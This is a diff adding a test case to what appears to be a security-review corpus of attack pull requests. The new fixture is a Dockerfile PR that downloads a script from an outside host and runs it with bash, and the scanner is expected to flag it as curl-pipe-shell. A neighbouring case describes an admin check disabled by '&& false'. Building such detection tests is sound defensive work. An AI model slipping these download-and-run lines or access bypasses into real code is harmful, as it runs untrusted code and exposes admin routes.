@@ -3357,6 +3357,26 @@ export const ATTACK_CASES: CorpusEntry[] = [
     expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
   },
   {
+    id: 'attack-dockerfile-second-downloaded-script',
+    description:
+      'A second installer behind the first: the image already installs Rust with rustup\'s own installer saved to a file and run (`curl -o rustup-init.sh https://sh.rustup.rs && sh rustup-init.sh`), and a newcomer\'s "cache the toolchain" PR adds another RUN that saves a stranger\'s setup script to /tmp and runs it with bash: the build now runs whatever that host serves, and a reader of only the first download-and-run of the file would miss it.',
+    fixture: () =>
+      attackPr({
+        repo: 'tidewatch',
+        number: 74101,
+        title: 'build: cache the toolchain',
+        author: 'newcomer',
+        files: [
+          {
+            path: 'Dockerfile',
+            base: lines('FROM debian:bookworm-slim@sha256:' + 'b'.repeat(64), "RUN curl --proto '=https' -sSf -o rustup-init.sh https://sh.rustup.rs && sh rustup-init.sh -y", 'COPY . /src', 'RUN cargo build --release --manifest-path /src/Cargo.toml'),
+            head: lines('FROM debian:bookworm-slim@sha256:' + 'b'.repeat(64), "RUN curl --proto '=https' -sSf -o rustup-init.sh https://sh.rustup.rs && sh rustup-init.sh -y", 'RUN curl -fsSL -o /tmp/warm.sh https://cargo-warm-cache.dev/setup.sh && bash /tmp/warm.sh', 'COPY . /src', 'RUN cargo build --release --manifest-path /src/Cargo.toml'),
+          },
+        ],
+      }),
+    expect: { level: ['high', 'critical'], action: 'request_changes', findings: ['curl-pipe-shell'] },
+  },
+  {
     id: 'attack-admin-gate-and-false',
     description:
       'A "Simplify admin routes" PR appends `&& false` to the condition that refuses non-admins (`if (!req.user.isAdmin && false) return res.sendStatus(403);`): the refusal never runs, every signed-in user reaches the admin routes.',
